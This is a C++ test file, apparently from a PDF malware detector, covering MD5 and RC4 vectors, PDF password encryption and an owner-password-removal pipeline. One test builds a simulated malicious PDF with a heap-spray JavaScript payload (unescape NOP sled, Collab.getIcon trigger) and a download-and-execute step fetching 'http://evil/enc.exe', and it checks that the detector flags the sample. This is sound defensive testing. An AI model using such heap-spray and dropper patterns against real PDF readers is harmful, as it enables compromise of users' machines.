@@ -1,0 +1,275 @@
+// Tests for the PDF encryption substrate: MD5 vectors, RC4 vectors, the
+// Standard security handler (O/U entries, key derivation, password
+// verification), whole-document encrypt/decrypt round-trips, and the
+// front-end's owner-password-removal step (§III-A) end to end.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "corpus/generator.hpp"
+#include "pdf/crypto.hpp"
+#include "pdf/parser.hpp"
+#include "pdf/writer.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "support/encoding.hpp"
+#include "support/md5.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+// ---------------------------------------------------------------------------
+// MD5 (RFC 1321 §A.5 test suite)
+// ---------------------------------------------------------------------------
+
+TEST(Md5, Rfc1321Vectors) {
+  EXPECT_EQ(sp::md5_hex(""), "d41d8cd98f00b204e9800998ecf8427e");
+  EXPECT_EQ(sp::md5_hex("a"), "0cc175b9c0f1b6a831c399e269772661");
+  EXPECT_EQ(sp::md5_hex("abc"), "900150983cd24fb0d6963f7d28e17f72");
+  EXPECT_EQ(sp::md5_hex("message digest"), "f96b697d7cb7938d525a2f31aaf161d0");
+  EXPECT_EQ(sp::md5_hex("abcdefghijklmnopqrstuvwxyz"),
+            "c3fcd3d76192e4007dfb496cca67e13b");
+  EXPECT_EQ(sp::md5_hex("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+                        "0123456789"),
+            "d174ab98d277d9f5a5611c2c9f419d9f");
+  EXPECT_EQ(sp::md5_hex("1234567890123456789012345678901234567890123456789012"
+                        "3456789012345678901234567890"),
+            "57edf4a22be3c955ac49da2e2107b67a");
+}
+
+TEST(Md5, PaddingBoundaries) {
+  // 55/56/64-byte messages cross the one-vs-two-block padding boundary.
+  for (std::size_t n : {55u, 56u, 57u, 63u, 64u, 65u, 119u, 120u}) {
+    const std::string msg(n, 'x');
+    const sp::Md5Digest d = sp::md5(sp::to_bytes(msg));
+    // Deterministic and stable across calls.
+    EXPECT_EQ(sp::md5(sp::to_bytes(msg)), d) << n;
+  }
+}
+
+// ---------------------------------------------------------------------------
+// RC4 (well-known vectors)
+// ---------------------------------------------------------------------------
+
+TEST(Rc4, KnownVectors) {
+  // "Key"/"Plaintext" -> BBF316E8D940AF0AD3
+  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Key"), sp::to_bytes("Plaintext"))),
+            "bbf316e8d940af0ad3");
+  // "Wiki"/"pedia" -> 1021BF0420
+  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Wiki"), sp::to_bytes("pedia"))),
+            "1021bf0420");
+  // "Secret"/"Attack at dawn" -> 45A01F645FC35B383552544B9BF5
+  EXPECT_EQ(sp::hex_encode(pd::rc4(sp::to_bytes("Secret"),
+                                   sp::to_bytes("Attack at dawn"))),
+            "45a01f645fc35b383552544b9bf5");
+}
+
+TEST(Rc4, IsItsOwnInverse) {
+  sp::Rng rng(9);
+  const sp::Bytes key = rng.bytes(16);
+  const sp::Bytes plain = rng.bytes(500);
+  EXPECT_EQ(pd::rc4(key, pd::rc4(key, plain)), plain);
+}
+
+// ---------------------------------------------------------------------------
+// Standard security handler
+// ---------------------------------------------------------------------------
+
+namespace {
+
+pd::EncryptionParams demo_params(const std::string& owner, int revision) {
+  pd::EncryptionParams p;
+  p.revision = revision;
+  p.key_length_bytes = revision >= 3 ? 16 : 5;
+  sp::Rng rng(4);
+  p.file_id = rng.bytes(16);
+  p.o_entry = pd::compute_o_entry(owner, "", revision, p.key_length_bytes);
+  p.u_entry = pd::compute_u_entry(p, "");
+  return p;
+}
+
+}  // namespace
+
+TEST(StdSecurity, EmptyUserPasswordVerifiesR2AndR3) {
+  for (int revision : {2, 3}) {
+    const pd::EncryptionParams p = demo_params("owner-secret", revision);
+    EXPECT_TRUE(pd::verify_user_password(p, "")) << "R" << revision;
+    EXPECT_FALSE(pd::verify_user_password(p, "wrong")) << "R" << revision;
+  }
+}
+
+TEST(StdSecurity, NonEmptyUserPasswordVerifies) {
+  pd::EncryptionParams p;
+  p.revision = 3;
+  p.key_length_bytes = 16;
+  sp::Rng rng(5);
+  p.file_id = rng.bytes(16);
+  p.o_entry = pd::compute_o_entry("owner", "user-pass", 3, 16);
+  p.u_entry = pd::compute_u_entry(p, "user-pass");
+  EXPECT_TRUE(pd::verify_user_password(p, "user-pass"));
+  EXPECT_FALSE(pd::verify_user_password(p, ""));
+}
+
+TEST(StdSecurity, ObjectDataRoundTrips) {
+  const sp::Bytes key = sp::to_bytes("0123456789abcdef");
+  const sp::Bytes plain = sp::to_bytes("app.alert('secret script');");
+  const sp::Bytes enc = pd::crypt_object_data(key, 12, 0, plain);
+  EXPECT_NE(enc, plain);
+  EXPECT_EQ(pd::crypt_object_data(key, 12, 0, enc), plain);
+  // Different object numbers use different keys.
+  EXPECT_NE(pd::crypt_object_data(key, 13, 0, plain), enc);
+}
+
+TEST(StdSecurity, DocumentEncryptDecryptRoundTrip) {
+  sp::Rng rng(6);
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(2, 300);
+  builder.set_info("Title", "Protected report");
+  builder.set_open_action_js("var v = 41 + 1;");
+  pd::Document& doc = builder.document();
+  const std::string original_js =
+      co::analyze_js_chains(doc).sites.at(0).source;
+
+  pd::encrypt_document(doc, "0wn3r", rng);
+  EXPECT_TRUE(pd::is_encrypted(doc));
+  // Javascript is now ciphertext.
+  EXPECT_NE(co::analyze_js_chains(doc).sites.at(0).source, original_js);
+
+  ASSERT_TRUE(pd::decrypt_document(doc, ""));
+  EXPECT_FALSE(pd::is_encrypted(doc));
+  EXPECT_EQ(co::analyze_js_chains(doc).sites.at(0).source, original_js);
+}
+
+TEST(StdSecurity, EncryptedFileSurvivesWriteParse) {
+  sp::Rng rng(7);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var marker = 'find-me';");
+  pd::encrypt_document(builder.document(), "owner!", rng);
+  const sp::Bytes file = builder.build();
+
+  // Ciphertext on disk: the plaintext marker must not appear.
+  EXPECT_EQ(sp::to_string(file).find("find-me"), std::string::npos);
+
+  pd::Document again = pd::parse_document(file);
+  ASSERT_TRUE(pd::is_encrypted(again));
+  ASSERT_TRUE(pd::decrypt_document(again, ""));
+  EXPECT_NE(co::analyze_js_chains(again).sites.at(0).source.find("find-me"),
+            std::string::npos);
+}
+
+TEST(StdSecurity, WrongPasswordRefusesDecryption) {
+  sp::Rng rng(8);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var x = 1;");
+  pd::Document& doc = builder.document();
+  // Protect with a real *user* password: empty no longer verifies.
+  pd::EncryptionParams p;
+  p.revision = 3;
+  p.key_length_bytes = 16;
+  p.file_id = rng.bytes(16);
+  p.o_entry = pd::compute_o_entry("owner", "userpw", 3, 16);
+  p.u_entry = pd::compute_u_entry(p, "userpw");
+  pd::Dict enc;
+  enc.set("Filter", pd::Object::name("Standard"));
+  enc.set("V", pd::Object(2));
+  enc.set("R", pd::Object(3));
+  enc.set("Length", pd::Object(128));
+  enc.set("P", pd::Object(static_cast<std::int64_t>(p.permissions)));
+  enc.set("O", pd::Object(pd::String{p.o_entry, true}));
+  enc.set("U", pd::Object(pd::String{p.u_entry, true}));
+  doc.trailer().set("Encrypt", pd::Object(enc));
+  doc.trailer().set("ID", pd::Object(pd::Array{
+                              pd::Object(pd::String{p.file_id, true}),
+                              pd::Object(pd::String{p.file_id, true})}));
+  EXPECT_FALSE(pd::decrypt_document(doc, ""));
+  EXPECT_TRUE(pd::decrypt_document(doc, "userpw"));
+}
+
+// ---------------------------------------------------------------------------
+// Front-end + reader integration (§III-A owner-password removal)
+// ---------------------------------------------------------------------------
+
+TEST(EncryptedPipeline, FrontEndRemovesOwnerPassword) {
+  sp::Rng rng(10);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("app.alert('hello');");
+  pd::encrypt_document(builder.document(), "antianalysis", rng);
+  const sp::Bytes file = builder.build();
+
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
+  co::FrontEndResult r = frontend.process(file);
+  ASSERT_TRUE(r.ok) << r.error;
+  EXPECT_TRUE(r.password_removed);
+  EXPECT_EQ(r.record.entries.size(), 1u);
+  // Output is decrypted and instrumented.
+  pd::Document out = pd::parse_document(r.output);
+  EXPECT_FALSE(pd::is_encrypted(out));
+  EXPECT_NE(co::analyze_js_chains(out).sites.at(0).source.find("SOAP.request"),
+            std::string::npos);
+}
+
+TEST(EncryptedPipeline, EncryptedMaliciousSampleStillDetected) {
+  sy::Kernel kernel;
+  sp::Rng rng(11);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/enc.exe", "c:/enc.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/enc.exe"}});
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+  pd::encrypt_document(builder.document(), "h1dden", rng);
+
+  co::FrontEndResult fe = frontend.process(builder.build());
+  ASSERT_TRUE(fe.ok);
+  EXPECT_TRUE(fe.password_removed);
+  detector.register_document(fe.record.key, "enc.pdf", fe.features);
+  reader.open_document(fe.output, "enc.pdf");
+  EXPECT_TRUE(detector.verdict(fe.record.key).malicious);
+  EXPECT_TRUE(kernel.fs().exists("quarantine://c:/enc.exe"));
+}
+
+TEST(EncryptedPipeline, ReaderOpensEncryptedDocTransparently) {
+  // Un-instrumented encrypted doc straight into the reader: Acrobat
+  // decrypts with the empty user password and the JS runs.
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  sp::Rng rng(12);
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js("var ran = true;");
+  pd::encrypt_document(builder.document(), "own", rng);
+  auto r = reader.open_document(builder.build(), "enc-benign.pdf");
+  EXPECT_TRUE(r.parsed);
+  EXPECT_TRUE(r.js_ran);
+}
+
+TEST(EncryptedPipeline, CorpusGeneratesEncryptedSamples) {
+  cp::CorpusConfig cfg;
+  cfg.seed = 0xE2C;
+  cfg.frac_owner_encrypted = 1.0;
+  cp::CorpusGenerator gen(cfg);
+  auto samples = gen.generate_malicious(5);
+  for (const auto& s : samples) {
+    EXPECT_NE(s.family.find("+encrypted"), std::string::npos) << s.family;
+    pd::Document doc = pd::parse_document(s.data);
+    EXPECT_TRUE(pd::is_encrypted(doc)) << s.name;
+  }
+}
